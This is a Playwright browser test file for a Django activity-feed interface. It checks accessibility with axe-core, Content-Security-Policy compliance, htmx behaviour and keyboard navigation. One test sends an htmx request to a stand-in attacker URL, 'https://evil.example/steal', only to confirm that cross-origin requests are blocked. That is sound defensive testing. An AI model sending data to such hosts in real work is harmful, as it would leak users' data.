"""Accessibility and CSP in real Chromium: axe-core on every page (light and dark, desktop and
phone), no Content-Security-Policy violation anywhere, htmx working under the policy and
refusing other origins, and a keyboard-only journey through the feed."""

from __future__ import annotations

import re

import pytest
from actstream.models import Action
from playwright.sync_api import Page, expect

import activityui
from demo_site.demo.models import Project, Task
from tests.browser.conftest import serious_violations, sign_in

MODES = [
    ("light", 1280, 900),
    ("dark", 1280, 900),
    ("light", 375, 812),
    ("dark", 375, 812),
]
# records Content-Security-Policy violations before any page script runs
WATCH_CSP = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__cspViolations.push(e.violatedDirective + " " + (e.blockedURI || "inline"));
});
"""


@pytest.fixture
def quick_polls(settings):
    settings.ACTIVITYUI = {**settings.ACTIVITYUI, "POLL_INTERVAL": 1, "PAGE_SIZE": 5}
    return settings


def _apollo_task() -> Task:
    commented = Action.objects.filter(verb="commented").values_list(
        "action_object_object_id", flat=True
    )
    return Task.objects.filter(project__team__name="Apollo", pk__in=list(commented)).first()


def _pages(user: str) -> dict[str, tuple[str, list[tuple[str, int, int]]]]:
    """The pages a user sees, with the modes each is checked in (the main surfaces in all
    four; the other pages in light desktop and dark phone)."""
    task = _apollo_task()
    action = Action.objects.order_by("-timestamp").first()
    some = [MODES[0], MODES[3]]
    if user == "staff":
        return {
            "staff console": ("/activity/staff/", MODES),
            "staff action": (f"/activity/staff/actions/{action.pk}/", some),
            "task timeline (staff)": (f"/activity/objects/demo.task/{task.pk}/", some),
        }
    project = Project.objects.filter(team__name="Apollo").first()
    return {
        "feed": ("/activity/", MODES),
        "following": ("/activity/following/", MODES),
        "task with timeline": (task.get_absolute_url(), MODES),
        "project with timeline": (project.get_absolute_url(), MODES),
        "dashboard": ("/", some),
        "projects": ("/projects/", some),
        "task timeline": (f"/activity/objects/demo.task/{task.pk}/", some),
    }


def _settled(page: Page) -> None:
    page.wait_for_load_state("networkidle")
    # lazy timelines: the placeholder is swapped for the loaded history
    expect(page.locator(".aui-timeline--loading")).to_have_count(0)


def _audit(page: Page, url: str, modes: list[tuple[str, int, int]]) -> dict[str, list[str]]:
    """Axe in each mode, plus CSP violations, for one page."""
    problems: dict[str, list[str]] = {}
    page.goto(url)
    _settled(page)
    for scheme, width, height in modes:
        page.set_viewport_size({"width": width, "height": height})
        page.emulate_media(color_scheme=scheme)
        found = serious_violations(page)
        found += [f"CSP {v}" for v in page.evaluate("window.__cspViolations")]
        if found:
            problems[f"{url} {scheme} {width}px"] = found
    return problems


@pytest.mark.parametrize("user", ["alice", "staff"])
def test_every_page_is_accessible_and_keeps_to_the_policy(
    live_server, demo, page: Page, console_errors, user: str
):
    page.add_init_script(WATCH_CSP)
    sign_in(page, live_server.url, user)
    problems = {}
    for path, modes in _pages(user).values():
        problems.update(_audit(page, live_server.url + path, modes))
    assert problems == {}
    assert console_errors == []


def test_login_page_is_accessible_and_keeps_to_the_policy(
    live_server, demo, page: Page, console_errors
):
    page.add_init_script(WATCH_CSP)
    assert _audit(page, live_server.url + "/login/", MODES) == {}
    assert console_errors == []


def test_htmx_works_under_the_policy(live_server, demo, quick_polls, page: Page, console_errors):
    page.add_init_script(WATCH_CSP)
    sign_in(page, live_server.url, "alice")
    page.goto(live_server.url + "/activity/")
    entries = page.locator("article.aui-entry")
    expect(entries.first).to_be_visible()
    shown = entries.count()
    page.get_by_role("link", name="Load more").click()
    expect(entries).not_to_have_count(shown)
    assert entries.count() > shown
    assert page.url == live_server.url + "/activity/"  # swapped in place, not a navigation
    page.goto(live_server.url + _apollo_task().get_absolute_url())
    expect(page.locator("#timeline .aui-tl").first).to_be_visible()
    assert page.evaluate("window.__cspViolations") == []
    assert console_errors == []


@pytest.mark.console_errors_expected(r"^htmx:invalidPath")  # the refusal, as htmx reports it
def test_htmx_refuses_requests_to_other_origins(live_server, demo, page: Page):
    sign_in(page, live_server.url, "alice")
    page.goto(live_server.url + "/activity/")
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    refused = page.evaluate(
        """() => new Promise((resolve) => {
            document.body.addEventListener("htmx:invalidPath", () => resolve(true), {once: true});
            htmx.ajax("GET", "https://evil.example/steal", {target: "body"})
                .then(() => resolve(false), () => resolve(true));
        })"""
    )
    assert refused is True
    assert page.evaluate("htmx.config.selfRequestsOnly") is True
    assert [url for url in requested if "evil.example" in url] == []


def _tab_until(page: Page, predicate: str, limit: int = 120) -> bool:
    """Press Tab until the focused element matches ``predicate`` (a JS expression on `el`)."""
    for _ in range(limit):
        page.keyboard.press("Tab")
        if page.evaluate(
            f"(() => {{ const el = document.activeElement; return !!({predicate}); }})()"
        ):
            return True
    return False


def test_keyboard_reaches_filters_entries_load_more_and_new_items(
    live_server, demo, quick_polls, page: Page, console_errors
):
    sign_in(page, live_server.url, "alice")
    page.goto(live_server.url + "/activity/")
    expect(page.locator("article.aui-entry").first).to_be_visible()
    page.locator("body").focus()
    assert _tab_until(page, "el.closest('#feed-filters') && el.matches('select, input')")
    assert _tab_until(page, "el.closest('.aui-entry') && el.matches('a, button')")
    assert _tab_until(page, "el.closest('#feed-more') && el.matches('a')")
    shown = page.locator("article.aui-entry").count()
    page.keyboard.press("Enter")
    expect(page.locator("article.aui-entry")).not_to_have_count(shown)

    task = _apollo_task()
    new = activityui.record(demo["bob"], "commented", task, task.project, comment="Keyboard!")
    banner = page.locator("#feed-banner a")
    expect(banner).to_have_text(re.compile(r"1 new activity"), timeout=10_000)
    # announced: the banner lands inside a polite live region that was in the page before
    expect(page.locator("[aria-live=polite] #feed-reveal")).to_have_count(1)
    page.locator("body").focus()
    page.evaluate("window.scrollTo(0, 0)")
    assert _tab_until(page, "el.id === 'feed-reveal'")
    page.keyboard.press("Enter")
    expect(page.locator(f"#aui-action-{new.pk}")).to_be_visible()
    # the revealed entries take the focus the banner had (after htmx settles)
    page.wait_for_function("() => document.activeElement.closest('.aui-entry') !== null")
    assert console_errors == []
